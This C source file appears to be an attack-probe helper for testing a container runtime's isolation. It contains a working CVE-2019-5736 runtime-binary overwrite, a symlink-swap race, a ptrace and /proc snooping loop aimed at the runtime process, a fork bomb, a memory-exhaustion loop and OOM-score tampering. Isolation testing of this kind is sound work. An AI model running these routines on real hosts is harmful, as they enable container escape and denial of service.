/* SPDX-License-Identifier: Apache-2.0 */
/* Runs inside a container and does what an attacker would: attack NAME [ARG].
 * Prints what came of it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int say(long r)
{
	puts(r >= 0 ? "ok" : strerrorname_np(errno));
	return 0;
}

/* The descriptors that are open, with where they lead. */
static int fds(void)
{
	char path[32], link[256];
	ssize_t n;
	int fd;

	for (fd = 3; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, link, sizeof(link) - 1);
		link[n < 0 ? 0 : n] = '\0';
		printf("%d:%s\n", fd, link);
	}
	puts("end");
	return 0;
}

/* Swaps each NAME with NAME.link for ever; how often is in /swaps. */
static int race(char **names)
{
	unsigned long n = 0;
	char other[256], text[32];
	int fd = open("/swaps", O_WRONLY | O_CREAT | O_TRUNC, 0644), len;
	size_t i;

	for (;;) {
		for (i = 0; names[i]; i++) {
			snprintf(other, sizeof(other), "%s.link", names[i]);
			if (renameat2(AT_FDCWD, names[i], AT_FDCWD, other,
				      RENAME_EXCHANGE) < 0) {
				perror(names[i]);
				return 1;
			}
		}
		if (++n % 16 != 0)
			continue;
		len = snprintf(text, sizeof(text), "%lu\n", n);
		if (pwrite(fd, text, (size_t)len, 0) != len)
			return say(-1);
	}
}

/* Every address family that a socket can be had of. */
static int families(void)
{
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW,
				    SOCK_SEQPACKET};
	size_t t;
	int f, fd;

	for (f = 0; f < 64; f++) {
		for (t = 0; t < sizeof(types) / sizeof(*types); t++) {
			fd = socket(f, types[t], 0);
			if (fd < 0)
				continue;
			close(fd);
			printf("%d ", f);
			break;
		}
	}
	puts("end");
	return 0;
}

static int opened;

static int try_write(const char *path, const struct stat *st, int type,
		     struct FTW *at)
{
	int fd;

	(void)at;
	if (type != FTW_F || !S_ISREG(st->st_mode))
		return 0;
	/* What is of a process is that process's. */
	if (strncmp(path, "/proc/", 6) == 0 && path[6] <= '9')
		return 0;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return 0;
	close(fd);
	if (opened++ < 5)
		printf("%s ", path);
	return 0;
}

/* Files below a folder that open for writing. */
static int walk(const char *dir)
{
	if (nftw(dir, try_write, 32, FTW_PHYS | FTW_MOUNT) < 0)
		return say(-1);
	printf("%d\n", opened);
	return 0;
}

/* Nodes in a folder that open, whichever way. */
static int nodes(const char *dir)
{
	static const int how[] = {O_RDONLY, O_WRONLY, O_RDWR};
	DIR *d = opendir(dir);
	struct dirent *e;
	size_t i;
	int n = 0, fd;

	if (!d || chdir(dir) < 0)
		return say(-1);
	while ((e = readdir(d))) {
		if (e->d_type != DT_CHR && e->d_type != DT_BLK)
			continue;
		n++;
		for (i = 0; i < 3; i++) {
			fd = open(e->d_name,
				  how[i] | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
			if (fd < 0 && (errno == EPERM || errno == EACCES))
				continue;
			printf("%s ", e->d_name);
			break;
		}
	}
	puts(n >= 10 ? "many" : "few");
	return 0;
}

/* Makes the nodes of a list "b 254 0" on standard input, as it can. */
static int mknods(void)
{
	unsigned int major, minor;
	int made = 0, tried = 0;
	char type;

	while (scanf(" %c %u %u", &type, &major, &minor) == 3) {
		tried++;
		made += mknod("/tmp/node",
			      (type == 'b' ? S_IFBLK : S_IFCHR) | 0600,
			      (dev_t)(major << 8 | minor)) == 0;
		unlink("/tmp/node");
	}
	printf("%d%s\n", made, tried ? "" : " of none");
	return 0;
}

static int is_engine(int pid)
{
	char path[32], name[32] = "";
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, name, sizeof(name) - 1);
	if (fd >= 0)
		close(fd);
	/* Executed by a descriptor it has that one's number for a name. */
	return n > 1 && (strncmp(name, "hyb-runtime", 11) == 0 ||
			 strspn(name, "0123456789") == (size_t)n - 1);
}

/* Is it the program already? The kernel changes a process's memory before its
 * name. What its program is may be seen. */
static int is_program(const char *exe)
{
	static const char want[] = "/busybox";
	char link[256];
	ssize_t n = readlink(exe, link, sizeof(link));

	return n >= (ssize_t)sizeof(want) - 1 &&
	       memcmp(link + n - (sizeof(want) - 1), want, sizeof(want) - 1) ==
		       0;
}

/* Still the engine's? One that ends has lost its memory, and with it its
 * program, before its name goes: what opens of it is empty. */
static int is_still(int pid)
{
	char exe[32], c;

	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	if (!is_engine(pid) || is_program(exe))
		return 0;
	if (readlink(exe, &c, 1) < 0 && errno != EACCES && errno != EPERM)
		return 0;
	/* One that has gone meanwhile refuses, too. */
	return is_engine(pid);
}

/* CVE-2019-5736: holds the binary of whoever joins and writes to it. */
static int overwrite(int pid, int *held)
{
	char path[48];
	int fd, out;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (is_program(path)) {
		close(fd);
		return 0;
	}
	++*held;
	out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (out < 0 && errno == ETXTBSY)
		out = open(path, O_WRONLY | O_CLOEXEC);
	close(fd);
	if (out < 0)
		return 0;
	return write(out, "#!/bin/true\n", 12) > 0;
}

static int trace(int pid)
{
	int still;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	still = is_still(pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return still;
}

/* What of a process of the engine's opens that only its own may see. */
static int peek(int pid)
{
	static const char *const names[] = {
		"root", "cwd",	"exe",	"mem",	"environ", "maps",
		"fd/0", "fd/3", "fd/4", "fd/5", "fd/6",	   "ns/mnt"};
	char path[48], c;
	size_t i;
	int fd, got = 0;

	for (i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		/* Or was it the program already, which it may see, or has it
		 * ended? Then there is nothing to read. */
		if (read(fd, &c, 1) != 0 && is_still(pid) && got++ < 3)
			printf("%s ", path);
		close(fd);
	}
	return got;
}

static volatile sig_atomic_t enough;

static void stop(int sig)
{
	(void)sig;
	enough = 1;
}

/* Is there for whoever joins, until SIGTERM: says when it has seen the engine
 * often, and at the end what it did to it. */
static int lurk(const char *how)
{
	int me = getpid(), pid, seen = 0, done = 0, held = 0;

	signal(SIGTERM, stop);
	puts("ready");
	fflush(stdout);
	while (!enough) {
		for (pid = me + 1; pid < me + 400; pid++) {
			if (!is_engine(pid))
				continue;
			if (++seen == 30) {
				puts("often");
				fflush(stdout);
			}
			if (!strcmp(how, "exe"))
				done += overwrite(pid, &held);
			else
				done += peek(pid) + trace(pid);
		}
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			continue;
	}
	printf("%s %d\n", seen ? "seen" : "unseen", done);
	return 0;
}

/* Longest of 200 naps of 1 ms, in ms. */
static int naps(void)
{
	const struct timespec ms = {.tv_nsec = 1000000};
	struct timespec a, b;
	long worst = 0, t;
	int i;

	for (i = 0; i < 200; i++) {
		clock_gettime(CLOCK_MONOTONIC, &a);
		nanosleep(&ms, NULL);
		clock_gettime(CLOCK_MONOTONIC, &b);
		t = (b.tv_sec - a.tv_sec) * 1000 +
		    (b.tv_nsec - a.tv_nsec) / 1000000;
		worst = t > worst ? t : worst;
	}
	printf("%ld\n", worst);
	return 0;
}

__attribute__((noreturn)) static void bomb(void)
{
	for (;;)
		if (fork() < 0 && errno == EAGAIN)
			sched_yield();
}

__attribute__((noreturn)) static void eat(void)
{
	char *p;

	for (;;) {
		p = malloc(1 << 20);
		if (p)
			memset(p, 1, 1 << 20);
	}
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : "";

	if (!strcmp(what, "fds"))
		return fds();
	if (!strcmp(what, "race"))
		return race(argv + 2);
	if (!strcmp(what, "families"))
		return families();
	if (!strcmp(what, "walk"))
		return walk(arg);
	if (!strcmp(what, "nodes"))
		return nodes(arg);
	if (!strcmp(what, "mknods"))
		return mknods();
	if (!strcmp(what, "lurk"))
		return lurk(arg);
	if (!strcmp(what, "naps"))
		return naps();
	if (!strcmp(what, "bomb"))
		bomb();
	if (!strcmp(what, "eat"))
		eat();
	if (!strcmp(what, "lower-oom"))
		return say(
			open("/proc/self/oom_score_adj", O_WRONLY) < 0 ||
					write(open("/proc/self/oom_score_adj",
						   O_WRONLY),
					      "-1000", 5) < 0
				? -1
				: 0);
	fprintf(stderr, "attack: what is '%s'?\n", what);
	return 2;
}
